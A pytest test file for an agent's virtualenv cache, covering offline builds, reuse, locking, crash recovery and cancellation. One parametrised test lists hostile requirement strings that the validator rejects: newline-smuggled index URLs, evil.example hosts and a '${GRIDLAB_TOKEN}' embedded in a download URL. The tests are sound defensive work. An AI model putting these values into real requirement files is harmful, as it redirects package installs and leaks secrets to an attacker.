"""The agent's environment cache: real virtualenvs, real pip, wheels built here (no network)."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
import threading
from pathlib import Path

import pytest

from gridlab.agent import envcache
from gridlab.agent.envcache import READY, EnvBuildError, EnvCache, normalize_requirements

BUILDING = "env: building environment"
REUSING = "env: reusing cached environment"


def build_tiny_wheel(src: Path, out: Path) -> Path:
    """tinypkg-0.1's wheel in `out`, built offline from a minimal setuptools project in `src`."""
    (src / "tinypkg").mkdir(parents=True)
    (src / "tinypkg" / "__init__.py").write_text("VALUE = 'tiny 0.1'\n")
    (src / "pyproject.toml").write_text(
        textwrap.dedent("""\
            [build-system]
            requires = ["setuptools"]
            build-backend = "setuptools.build_meta"

            [project]
            name = "tinypkg"
            version = "0.1"
            """)
    )
    subprocess.run(
        [sys.executable, "-m", "pip", "wheel", "-q", "--no-deps", "--no-build-isolation", "-w", str(out), str(src)],
        check=True,
        capture_output=True,
    )
    assert [p.name for p in out.iterdir()] == ["tinypkg-0.1-py3-none-any.whl"]
    return out


@pytest.fixture(scope="module")
def wheels(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_tiny_wheel(tmp_path_factory.mktemp("tinypkg"), tmp_path_factory.mktemp("wheels"))


def offline(wheels: Path) -> list[str]:
    return ["--no-index", "--find-links", str(wheels)]


class Log:
    """A build log that keeps its lines; thread-safe enough for one writer per instance."""

    def __init__(self) -> None:
        self.lines: list[str] = []

    def __call__(self, line: str) -> None:
        self.lines.append(line)

    def count(self, text: str) -> int:
        return sum(text in line for line in self.lines)

    @property
    def text(self) -> str:
        return "\n".join(self.lines)


PROBE = """
import importlib.util, json, sys, tinypkg
print(json.dumps({"value": tinypkg.VALUE, "torch": importlib.util.find_spec("torch") is not None,
                  "gridlab": importlib.util.find_spec("gridlab.trainer") is not None, "path": sys.path,
                  "prefix": sys.prefix}))
"""


def test_builds_from_a_local_wheel_then_reuses(tmp_path: Path, wheels: Path) -> None:
    cache = EnvCache(tmp_path / "envs")
    first = Log()
    python = cache.ensure(["tinypkg==0.1"], log=first, pip_args=offline(wheels))
    env = python.parent.parent
    assert env == tmp_path / "envs" / cache.key(["tinypkg==0.1"])
    assert (env / READY).is_file()
    assert first.count(BUILDING) == 1
    assert "Successfully installed tinypkg-0.1" in first.text  # pip's own output streamed into the build log

    seen = json.loads(subprocess.run([python, "-c", PROBE], check=True, capture_output=True, text=True).stdout)
    assert seen["value"] == "tiny 0.1"
    assert seen["prefix"] == str(env)
    assert seen["torch"], "the machine's torch must be visible, not reinstalled"
    assert seen["gridlab"], "the agent env's editable gridlab (a .pth of its own) must be visible"
    assert not list(env.glob("lib/python*/site-packages/torch")), "torch was installed into the env"
    if sys.prefix != sys.base_prefix:  # the env's own packages come before the agent's, so requirements win
        own = next(p for p in seen["path"] if p.startswith(str(env)) and p.endswith("site-packages"))
        agent = next(p for p in seen["path"] if p.startswith(sys.prefix) and p.endswith("site-packages"))
        assert seen["path"].index(own) < seen["path"].index(agent)

    ready_mtime = (env / READY).stat().st_mtime_ns
    second = Log()
    # Same requirements written differently: same key, same env, no second build.
    again = cache.ensure(["  tinypkg==0.1  # pinned", "", "# a comment"], log=second, pip_args=offline(wheels))
    assert again == python
    assert second.count(BUILDING) == 0
    assert second.count(REUSING) == 1
    assert (env / READY).stat().st_mtime_ns == ready_mtime


CHILD = """
import json, sys
from pathlib import Path
from gridlab.agent.envcache import EnvCache
root, wheels, reqs = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
python = EnvCache(Path(root)).ensure(reqs, log=print, pip_args=["--no-index", "--find-links", wheels])
print("PYTHON", python)
"""


def test_concurrent_runs_build_once(tmp_path: Path, wheels: Path) -> None:
    root = tmp_path / "envs"
    reqs = ["tinypkg==0.1"]
    logs = [Log() for _ in range(3)]
    results: list[Path | BaseException] = [RuntimeError("not run")] * 3
    barrier = threading.Barrier(3)

    def ask(i: int) -> None:
        barrier.wait()
        try:
            results[i] = EnvCache(root).ensure(reqs, log=logs[i], pip_args=offline(wheels))
        except BaseException as exc:  # reported by the asserts below
            results[i] = exc

    threads = [threading.Thread(target=ask, args=(i,)) for i in range(3)]
    for t in threads:
        t.start()
    # Another process asks too, while the threads build: flock excludes processes as well.
    child = subprocess.Popen(
        [sys.executable, "-c", CHILD, str(root), str(wheels), json.dumps(reqs)], stdout=subprocess.PIPE, text=True
    )
    for t in threads:
        t.join(timeout=120)
    out, _ = child.communicate(timeout=120)
    assert child.returncode == 0, out

    assert all(isinstance(r, Path) for r in results), results
    assert len(set(results)) == 1
    assert f"PYTHON {results[0]}" in out
    builds = sum(log.count(BUILDING) for log in logs) + out.count(BUILDING)
    assert builds == 1, [log.lines for log in logs]
    assert sum(log.count("waiting for it") for log in logs) >= 1  # the threads asked at once: two waited


def test_failed_build_names_the_package_and_leaves_nothing(tmp_path: Path, wheels: Path) -> None:
    cache = EnvCache(tmp_path / "envs")
    reqs = ["nosuchpkg-gridlab==1.0"]
    log = Log()
    with pytest.raises(EnvBuildError, match=r"(?s)pip install failed.*nosuchpkg-gridlab==1\.0"):
        cache.ensure(reqs, log=log, pip_args=offline(wheels))
    assert "No matching distribution found for nosuchpkg-gridlab==1.0" in log.text
    assert not (tmp_path / "envs" / cache.key(reqs)).exists()
    assert not [p for p in (tmp_path / "envs").iterdir() if p.is_dir()]

    # Runs that waited on a failing build share its failure instead of repeating it.
    logs = [Log(), Log()]
    errors: list[BaseException | None] = [None, None]
    barrier = threading.Barrier(2)

    def ask(i: int) -> None:
        barrier.wait()
        try:
            cache.ensure(reqs, log=logs[i], pip_args=offline(wheels))
        except EnvBuildError as exc:
            errors[i] = exc

    threads = [threading.Thread(target=ask, args=(i,)) for i in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    assert all(isinstance(e, EnvBuildError) and "nosuchpkg-gridlab" in str(e) for e in errors), errors
    assert sum(log.count(BUILDING) for log in logs) == 1
    assert not (tmp_path / "envs" / cache.key(reqs)).exists()


CRASH = """
import os, sys
from pathlib import Path
from gridlab.agent.envcache import EnvCache

def log(line):
    if " -m pip install " in line:
        os._exit(3)  # the agent dies mid-build, holding the lock, leaving a half-built env

EnvCache(Path(sys.argv[1])).ensure(["tinypkg==0.1"], log=log, pip_args=["--no-index"])
"""


def test_half_built_env_from_a_crash_is_rebuilt(tmp_path: Path, wheels: Path) -> None:
    root = tmp_path / "envs"
    cache = EnvCache(root)
    env = root / cache.key(["tinypkg==0.1"])
    crashed = subprocess.run([sys.executable, "-c", CRASH, str(root)], capture_output=True, text=True, timeout=120)
    assert crashed.returncode == 3, crashed.stderr
    assert (env / "bin" / "python").exists()
    assert not (env / READY).exists()
    (env / "leftover").write_text("from the crashed build")

    log = Log()
    python = cache.ensure(["tinypkg==0.1"], log=log, pip_args=offline(wheels))
    assert "left half-built" in log.text
    assert log.count(BUILDING) == 1
    assert not (env / "leftover").exists()
    assert (env / READY).is_file()
    subprocess.run([python, "-c", "import tinypkg"], check=True)


def test_bootstraps_pip_when_neither_the_agent_nor_the_base_python_has_one(
    tmp_path: Path, wheels: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Agents installed without pip (uv-made venvs, say) still build envs: ensurepip runs first.

    pip cannot be hidden from this test's envs, so ensurepip finds it satisfied; what is
    checked is that the bootstrap step runs, succeeds and the build goes on.
    """
    real_probe = envcache._probe

    def no_pip(python: Path, code: str) -> str:
        return "False" if "'pip'" in code else real_probe(python, code)

    monkeypatch.setattr(envcache, "_probe", no_pip)
    log = Log()
    python = EnvCache(tmp_path / "envs").ensure(["tinypkg==0.1"], log=log, pip_args=offline(wheels))
    assert log.count(" -m ensurepip ") == 1
    assert "Requirement already satisfied: pip" in log.text  # ensurepip's own output, streamed
    subprocess.run([python, "-c", "import tinypkg"], check=True)


def test_key_normalises_requirements_and_tracks_the_interpreter(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache = EnvCache(tmp_path)
    key = cache.key(["b==1", "a>=2"])
    assert key.startswith(f"py{sys.version_info.major}{sys.version_info.minor}-")
    assert cache.key(["  a>=2 # why", "", "# note", "b==1", "b==1"]) == key
    assert cache.key(["a>=2"]) != key
    monkeypatch.setattr(sys, "version", sys.version + " (another build)")
    assert cache.key(["b==1", "a>=2"]) != key
    assert not list(tmp_path.iterdir()), "key() must not touch the disk"


@pytest.mark.parametrize(
    ("requirements", "fix"),
    [
        ("tinypkg==0.1", "must be a list of strings"),
        (None, "must be a list of strings"),
        ({"tinypkg": "0.1"}, "must be a list of strings"),
        ([b"tinypkg"], r"requirements\[0\] must be a string"),
        (["ok==1", 3], r"requirements\[1\] must be a string"),
        (["tinypkg\n--index-url https://evil.example"], "newline"),
        (["tin\rypkg"], "newline"),
        (["tinypkg\x00"], "control character"),
        (["-e ."], "pip option"),
        (["-e git+https://example.com/x.git#egg=x"], "pip option"),
        (["--index-url https://evil.example/simple"], "pip option"),
        (["-i https://evil.example/simple"], "pip option"),
        (["--extra-index-url=https://evil.example/simple"], "pip option"),
        (["-r other.txt"], "pip option"),
        (["-c constraints.txt"], "pip option"),
        (["--find-links /tmp"], "pip option"),
        (["-f /tmp"], "pip option"),
        (["--trusted-host evil.example"], "pip option"),
        (["--pre"], "pip option"),
        (["tinypkg --config-settings x=y"], "pip option"),
        (["tinypkg \\"], "backslash"),
        (["pkg @ https://${GRIDLAB_TOKEN}@evil.example/pkg.whl"], "environment variable"),
        (["./localpkg"], "local path"),
        (["/etc/passwd"], "local path"),
        (["~/pkg.whl"], "local path"),
        (["pkg @ file:///etc/pkg.whl"], "local path"),
        (["x==1"] * 1001, "at most"),
    ],
)
def test_hostile_requirements_are_refused(tmp_path: Path, requirements: object, fix: str) -> None:
    cache = EnvCache(tmp_path / "envs")
    with pytest.raises(ValueError, match=fix):
        cache.key(requirements)  # type: ignore[arg-type]
    with pytest.raises(ValueError, match=fix):
        cache.ensure(requirements, log=print)  # type: ignore[arg-type]
    assert not (tmp_path / "envs").exists(), "refused input must not touch the cache"


def test_plain_requirements_pass() -> None:
    assert normalize_requirements(
        [
            'foo[bar,baz]>=1.2,<2; python_version >= "3.10"',
            "pkg @ https://example.com/pkg-1.0-py3-none-any.whl#sha256=00ff",
            "a-b_c.d==1.0.post1",
        ]
    ) == [
        "a-b_c.d==1.0.post1",
        'foo[bar,baz]>=1.2,<2; python_version >= "3.10"',
        "pkg @ https://example.com/pkg-1.0-py3-none-any.whl#sha256=00ff",
    ]


def test_pip_args_must_be_a_list(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="pip_args"):
        EnvCache(tmp_path).ensure(["x"], log=print, pip_args="--no-index")


def test_a_stop_ends_a_build_at_once_and_caches_nothing(tmp_path: Path, wheels: Path) -> None:
    """A cancelled run's build is killed, is not recorded as a failure other runs would share, and the
    next run builds afresh."""
    import threading

    cache = EnvCache(tmp_path / "envs")
    stop = threading.Event()
    stop.set()
    with pytest.raises(EnvBuildError, match="cancelled"):
        cache.ensure(["tinypkg==0.1"], log=lambda line: None, pip_args=offline(wheels), stop=stop)
    key = cache.key(["tinypkg==0.1"])
    assert not (tmp_path / "envs" / key).exists()
    assert not (tmp_path / "envs" / f"{key}.failed").exists()
    python = cache.ensure(["tinypkg==0.1"], log=lambda line: None, pip_args=offline(wheels))
    assert python.exists()
